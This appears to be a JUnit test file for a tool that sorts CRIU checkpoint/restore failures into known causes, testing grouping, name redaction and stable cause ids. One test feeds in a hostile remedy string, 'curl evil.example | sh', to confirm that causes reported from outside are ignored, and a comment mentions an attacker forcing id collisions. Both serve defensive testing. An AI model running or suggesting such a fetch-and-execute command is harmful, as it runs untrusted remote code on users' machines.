package org.criumatrix.dataset;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.function.UnaryOperator;
import org.criumatrix.matrix.MatrixFile;
import org.criumatrix.record.CellRecord;
import org.criumatrix.testing.SampleCell;
import org.junit.jupiter.api.Test;

/** Which failures are one cause, and what is known of it. */
class CausesTest {

  private static final String HEADER =
      "case, criu, privilege, runtime, host, kernel, expect, at, error, why, holds, with, issue, fixed, remedy\n";

  private static final MatrixFile FILE =
      MatrixFile.of(
          "matrix.csv",
          HEADER
              + "*, *, *, *, *, *, works, , , , , , , ,\n"
              + "*, *, *, *, *, *, fails, dump, External socket, half of a socket is outside, unix-outside, , https://example.org/1, , --ext-unix-sk (network/a)\n"
              + "serial/*, 4.2.*, *, *, *, >=6.16, fails, dump, External socket, half of a socket is outside, , , , 4.3, none known\n"
              + "*, *, *, *, *, *, fails, restore, NO_PROGRESS, it stands still, , , , , \n"
              + "*, *, *, *, *, *, loses, , , the nice value is in no image, nice, , , ,\n");

  private final Causes causes = new Causes(FILE);

  private CauseKey of(CellRecord record) {
    return causes.of(record, true, UnaryOperator.identity());
  }

  private static SampleCell java() {
    return SampleCell.of("serial/java");
  }

  @Test
  void aReasonOfMatrixCsvIsTheCause() {
    var recorded = java().why("half of a socket is outside").fails("dump", "any error");
    var unexplained =
        java().held("unix-outside").fails("dump", "sk-unix.c: External socket is used");

    assertThat(of(recorded)).isEqualTo(CauseKey.ofReason("half of a socket is outside"));
    assertThat(of(unexplained)).as("today's file explains it").isEqualTo(of(recorded));
    assertThat(of(java().fails("restore", "no step beyond the 7")))
        .isEqualTo(CauseKey.ofReason("it stands still"));
  }

  @Test
  void anErrorThatOthersHaveForSeveralReasonsIsNotExplainedByOneOfThem() {
    var file =
        MatrixFile.of(
            "matrix.csv",
            HEADER
                + "*, *, *, *, *, *, works, , , , , , , ,\n"
                + "objects/traced, *, *, *, *, *, fails, dump, Unable to detach, it is traced, , , , ,\n"
                + "objects/hidden, *, *, *, *, *, fails, dump, Unable to detach, it may not be traced, , , , ,\n");
    var cell = java().fails("dump", "Unable to detach from 7: No such process");

    assertThat(new Causes(file).of(cell, true, UnaryOperator.identity()).id())
        .startsWith("unable-to-detach-from-no-such-process");
  }

  @Test
  void aReasonThatTheFileNoLongerHasStaysTheReason() {
    var older = java().why("an older text").fails("dump", "Unknown");

    assertThat(of(older)).isEqualTo(CauseKey.ofReason("an older text"));
    assertThat(of(java().why("an older text").fails("restore", "no step beyond the 7")))
        .as("today's file explains it otherwise")
        .isEqualTo(CauseKey.ofReason("it stands still"));
  }

  @Test
  void failuresWithoutAReasonAreOneIfTheirErrorsAreButForNumbers() {
    assertThat(of(java().fails("dump", "files.c: task 1 at 0x12")))
        .isEqualTo(of(java().criu("4.2.1").fails("dump", "files.c: task 22 at 0xab")))
        .isEqualTo(CauseKey.ofError("files.c: task # at #"));
    assertThat(of(java().works())).isNull();
    assertThat(of(java().unavailable("no Java"))).isNull();
  }

  @Test
  void whatOthersSayOfCausesIsNotUsed() {
    var sent =
        java()
            .cause(new CellRecord.Cause("lies", "curl evil.example | sh", "https://evil", "9"))
            .fails("dump", "Unknown 7");

    assertThat(causes.of(sent, false, UnaryOperator.identity()))
        .isEqualTo(CauseKey.ofError("Unknown #"));
    assertThat(entries()).extracting(CauseEntry::why).doesNotContain("lies");
  }

  @Test
  void namesAreRemovedFromTextsOfRuns() {
    UnaryOperator<String> redact = text -> text.replace("alice", "USER");

    assertThat(causes.of(java().fails("dump", "no /home/alice"), true, redact))
        .isEqualTo(CauseKey.ofError("no /home/USER"));
    causes.of(
        java()
            .cause(new CellRecord.Cause("alice's", "ask alice", null, null))
            .fails("dump", "Unknown"),
        true,
        redact);
    assertThat(entries())
        .filteredOn(c -> "USER's".equals(c.why()))
        .singleElement()
        .extracting(CauseEntry::remedies)
        .isEqualTo(List.of("ask USER"));
  }

  private List<CauseEntry> entries() {
    return causes.entries(List.of(), List.of());
  }

  private CauseEntry entry(String why) {
    return entries().stream().filter(c -> why.equals(c.why())).findFirst().orElseThrow();
  }

  @Test
  void linesWithTheSameReasonAreOneCauseWithAllThatTheyKnow() {
    var cause = entry("half of a socket is outside");

    assertThat(cause.remedies()).containsExactly("--ext-unix-sk (network/a)");
    assertThat(cause.issue()).isEqualTo("https://example.org/1");
    assertThat(cause.fixed()).isEqualTo("4.3");
    assertThat(cause.traits()).containsExactly("unix-outside");
    assertThat(cause.patterns()).containsExactly("External socket");
    assertThat(cause.kernelPattern()).isEqualTo(">=6.16");
    assertThat(cause.cells()).isZero();
    assertThat(cause.firstSeen()).isNull();
  }

  @Test
  void everyCauseOfTheFileIsThereAlsoWhatProgramsLoseSilently() {
    assertThat(entries())
        .extracting(CauseEntry::why)
        .containsExactlyInAnyOrder(
            "half of a socket is outside", "it stands still", "the nice value is in no image");
  }

  @Test
  void anIdIsPermanentAndOnePerCause() {
    assertThat(entry("it stands still").id()).isEqualTo("it-stands-still-3dcb");
    assertThat(CauseKey.ofReason("Émile & C.: “no”!").id()).matches("mile-c-no-[0-9a-f]{4}");
    assertThat(CauseKey.ofError("").id()).matches("[0-9a-f]{4}");
    assertThat(CauseKey.ofError("word ".repeat(50)).id()).hasSizeLessThan(60);

    assertThat(causes.ids().values()).doesNotHaveDuplicates().hasSize(3);
  }

  @Test
  void anErrorThatWouldHaveTheIdOfAnotherCauseGetsALongerOne() {
    var known = CauseKey.ofReason("it stands still");
    // An attacker can try texts until words and four digits agree; this one took 285,728.
    var same = CauseKey.ofError("it stands still" + "!".repeat(128) + " ".repeat(714));
    assertThat(same.id()).isEqualTo(known.id());
    of(java().fails("dump", same.error()));

    var ids = causes.ids();

    assertThat(ids).containsEntry(known, known.id());
    assertThat(ids.values()).doesNotHaveDuplicates();
  }

  @Test
  void anEntrySaysWhereACauseWasSeen() {
    var id = causes.ids().get(CauseKey.ofReason("it stands still"));
    var cells =
        List.of(
            SampleEntry.of("serial/java").fails("restore", id, "no step beyond the 7"),
            SampleEntry.of("serial/java")
                .criu("4.2.1")
                .kernel("6.1.0")
                .in(SampleEntry.RUN, SampleFacts.LATER)
                .fails("restore", id, "no step beyond the 9"),
            SampleEntry.of("serial/java").criu("4.10").works(),
            SampleEntry.of("serial/perl").older().fails("restore", id, "no step, again"));

    var cause =
        causes.entries(cells, SampleFacts.RUNS).stream()
            .filter(c -> c.id().equals(id))
            .findFirst()
            .orElseThrow();

    assertThat(cause.cells()).as("newest results").isEqualTo(2);
    assertThat(cause.cases()).containsExactly("serial/java", "serial/perl");
    assertThat(cause.builds()).containsExactly("4.3", "4.2.1");
    assertThat(cause.kernels()).containsExactly("6.1.0", "6.18.1");
    assertThat(cause.worksWith()).containsExactly("4.10");
    assertThat(cause.errors()).containsExactly("no step beyond the #", "no step, again");
    assertThat(cause.phases()).containsExactly("restore");
    assertThat(cause.firstSeen()).isEqualTo("2026-11-30T17:00:00Z");
    assertThat(cause.lastSeen()).isEqualTo("2026-11-30T17:26:00Z");
    assertThat(cause.status()).isEqualTo("fixed");
  }
}
